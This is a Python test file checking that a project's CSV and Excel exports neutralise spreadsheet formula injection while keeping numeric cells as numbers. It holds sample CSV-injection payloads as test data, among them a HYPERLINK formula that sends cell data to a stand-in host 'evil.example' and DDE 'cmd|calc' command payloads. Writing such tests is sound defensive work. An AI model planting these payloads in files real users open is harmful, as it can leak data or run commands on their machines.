"""CSV and Excel files the project writes are safe to open in a spreadsheet; numbers stay numbers.

The rule is :mod:`journeylib.safecells` (one for the whole project); these tests open the written
files with a CSV reader and with openpyxl."""

from __future__ import annotations

import csv
import json
import shutil

import openpyxl
import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from journeylib.cli import app
from journeylib.exports import FORMULA_START, neutralise, safe_text, write_table
from journeylib.safecells import restore

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "=1+1", "-", "+"]
NUMBERS = [-3.0, 4.0, -2.5, 1e3, -0.5]  # a numeric column


def cells_csv(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def cells_xlsx(path) -> list[list]:
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


def test_payloads_neutralised_numbers_kept(tmp_path):
    df = pl.DataFrame({"=evil": PAYLOADS, "n": list(range(-7, len(PAYLOADS) - 7)),
                       "x": NUMBERS + [1.5] * (len(PAYLOADS) - len(NUMBERS))})
    rows = cells_csv(write_table(df, tmp_path / "t.csv"))
    assert rows[0] == ["'=evil", "n", "x"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][1] == "-7" and [float(r[2]) for r in rows[1:len(NUMBERS) + 1]] == NUMBERS  # numbers unquoted
    xl = cells_xlsx(write_table(df, tmp_path / "t.xlsx"))
    assert all(dtype != "f" for row in xl for _, dtype in row)  # no formula cell anywhere
    assert xl[1][0] == ("'" + PAYLOADS[0], "s") and xl[1][1] == (-7, "n") and xl[1][2] == (-3.0, "n")
    assert [row[2] for row in xl[1:len(NUMBERS) + 1]] == [(v, "n") for v in NUMBERS]


@given(st.text(max_size=12))
@settings(max_examples=300, deadline=None)
def test_no_text_a_spreadsheet_would_run_survives(text):
    out = neutralise(pl.DataFrame({"c": [text]}))["c"][0]
    assert out == safe_text(text)
    assert not out.startswith(FORMULA_START)
    assert restore(out) == text  # lossless: the project reads its own files back


def test_metrics_export_with_hostile_learner_attribute(tmp_path, sample_dir):
    ws = tmp_path / "ws"
    shutil.copytree(sample_dir, ws)
    lr = pl.read_csv(ws / "learners.csv", infer_schema=False)
    evil = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+1"]
    lr = lr.with_columns(pl.Series("region", [evil[i % 4] for i in range(lr.height)]))
    lr.write_csv(ws / "learners.csv")
    runner = CliRunner()
    for out in (tmp_path / "f.csv", tmp_path / "f.xlsx"):
        res = runner.invoke(app, ["metrics", "funnel", str(ws), "--by", "region", "--out", str(out)])
        assert res.exit_code == 0, res.output
    text = [r[0] for r in cells_csv(tmp_path / "f.csv")[1:]]  # the region column comes first
    assert set(text) == {"'" + e for e in evil}
    xl = cells_xlsx(tmp_path / "f.xlsx")
    assert all(dtype != "f" for row in xl for _, dtype in row)
    assert {v for (v, _), *_ in xl[1:]} == {"'" + e for e in evil}
    k = [v for v, _ in xl[0]].index("learners")
    assert all(row[k][1] == "n" and isinstance(row[k][0], int) for row in xl[1:])  # counts stay numbers


def test_rejected_rows_export_is_neutralised(tmp_path, sample_dir):
    ws = tmp_path / "ws"
    shutil.copytree(sample_dir, ws)
    with (ws / "events.csv").open("a") as fh:
        fh.write('x1,=cmd|calc,course_page,2025-03-01T10:00:00Z,viewed,,\n=HYPERLINK("x"),"oops\n')
    for name in ("rejected.csv", "rejected.xlsx"):
        res = CliRunner().invoke(app, ["validate", str(ws), "--rejected", str(tmp_path / name)])
        assert res.exit_code == 1, res.output
    rows = cells_csv(tmp_path / "rejected.csv")
    assert rows[0] == ["table", "file", "row", "reason", "field", "record"]
    raw = {r[3]: r[5] for r in rows[1:]}
    assert raw["malformed quoting"] == "'" + '=HYPERLINK("x"),"oops'  # the raw line, neutralised
    assert all(not r[5].startswith(FORMULA_START) for r in rows[1:])
    assert json.loads(raw["unknown learner"])["learner_id"] == "=cmd|calc"  # JSON text, safe as it is
    assert all(dtype != "f" for row in cells_xlsx(tmp_path / "rejected.xlsx") for _, dtype in row)
